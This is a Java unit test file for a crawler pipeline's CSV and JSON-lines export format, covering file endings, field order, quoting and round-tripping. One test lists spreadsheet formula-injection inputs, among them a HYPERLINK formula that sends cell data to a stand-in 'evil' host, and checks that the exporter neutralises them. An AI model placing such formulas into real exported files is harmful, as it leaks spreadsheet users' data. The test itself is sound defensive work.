package io.trawl.pipeline.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.trawl.api.Item;
import io.trawl.api.ItemKind;
import io.trawl.definition.sink.SinkDefinition;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files of comma-separated values are read by another library than the one that writes them. */
class FileFormatTest {
    private static FileFormat format(String type, Optional<String> name, Optional<String> compress, String... fields) {
        return FileFormat.of(SinkDefinition.files(type, name, compress, List.of(fields)), List.of());
    }

    private static FileFormat csv(String... fields) {
        return format("csv", Optional.empty(), Optional.empty(), fields);
    }

    private static Item item(Map<String, Object> fields) {
        return new Item("i1", "ki1", "docs/3", ItemKind.PAGE, "https://h/ä", fields);
    }

    private static List<String[]> read(FileFormat format, Item... items) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.writeBytes(format.header());
        for (Item item : items) {
            file.writeBytes(format.line(item).bytes());
        }
        try (MappingIterator<String[]> lines = new CsvMapper().readerFor(String[].class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(file.toByteArray())) {
            return lines.readAll();
        }
    }

    @Test
    void endingsTellSinksApart() {
        assertThat(FileFormat.DEFAULT.ending()).isEqualTo("jsonl");
        assertThat(csv("id").ending()).isEqualTo("csv");
        assertThat(format("jsonl", Optional.of("offers"), Optional.of("gzip")).ending()).isEqualTo("offers.jsonl.gz");
        assertThat(format("csv", Optional.of("csv"), Optional.of("zstd"), "id").ending()).isEqualTo("csv.zst");
    }

    @Test
    void aLineOfJsonHasTheNamedFieldsInTheirOrder() {
        Map<String, Object> fields = new LinkedHashMap<>(Map.of("title", "T", "depth", 1, "text", "long"));
        assertThat(new String(format("jsonl", Optional.empty(), Optional.empty(), "depth", "url", "none", "title")
                .line(item(fields)).bytes(), StandardCharsets.UTF_8))
                .isEqualTo("{\"depth\":1,\"url\":\"https://h/ä\",\"title\":\"T\"}\n");
    }

    @Test
    void aRecordHasAColumnPerField() throws IOException {
        FileFormat format = csv("id", "crawl", "epoch", "url", "title", "price", "tags", "none");
        List<String[]> lines = read(format, item(Map.of("title", "a \"quoted\", text\nof two lines", "price", -2.5,
                "tags", List.of("a", Map.of("b", 1)))));
        assertThat(lines).hasSize(2);
        assertThat(lines.get(0)).containsExactly("id", "crawl", "epoch", "url", "title", "price", "tags", "none");
        assertThat(lines.get(1)).containsExactly("i1", "docs", "3", "https://h/ä", "a \"quoted\", text\nof two lines",
                "-2.5", "[\"a\",{\"b\":1}]", "");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil/\"&A1)", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
            "\uff1d1"})
    void aTextThatASpreadsheetTakesForAFormulaIsText(String text) throws IOException {
        assertThat(read(csv("id", "title"), item(Map.of("title", text))).get(1)[1]).isEqualTo("'" + text);
    }

    @Property(tries = 300)
    void everyOtherTextIsReadAsItWas(@ForAll List<String> texts) throws IOException {
        Item[] items = texts.stream().map(text -> item(Map.of("title", "x" + text))).toArray(Item[]::new);
        assertThat(read(csv("title", "none"), items).stream().skip(1).map(line -> line[0]))
                .containsExactlyElementsOf(texts.stream().map(text -> "x" + text).toList());
    }

    @Test
    void anEmptyRecordOfOneColumnIsARecord() throws IOException {
        assertThat(read(csv("none"), item(Map.of()), item(Map.of("none", "x")))).hasSize(3);
    }

    @Test
    void aValueWithoutAJsonFormIsRefusedInEveryFormat() {
        Item item = item(Map.of("thread", new Object()));
        assertThatThrownBy(() -> csv("thread").line(item)).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> format("jsonl", Optional.empty(), Optional.empty(), "thread").line(item))
                .isInstanceOf(IllegalArgumentException.class);
    }
}
